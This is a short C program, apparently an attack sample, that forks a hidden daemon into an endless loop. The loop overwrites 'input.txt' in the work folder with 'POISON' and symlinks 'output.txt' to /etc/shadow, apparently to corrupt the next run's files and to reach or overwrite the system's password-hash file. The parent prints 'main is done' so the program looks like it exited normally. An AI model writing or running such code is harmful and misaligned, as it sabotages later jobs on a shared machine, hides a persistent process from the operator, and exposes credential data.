/* A daemon that waits for files of the next run in the work folder and spoils them. */
#include "attack.h"
int main(void) {
    if (fork() == 0) {
        setsid();
        for (;;) {
            int fd = open("input.txt", O_WRONLY | O_CREAT, 0666);
            if (fd >= 0) {
                if (write(fd, "POISON", 6) < 0) errno = 0;
                close(fd);
            }
            symlink("/etc/shadow", "output.txt");
            usleep(100);
        }
    }
    puts("main is done");
    return 0;
}
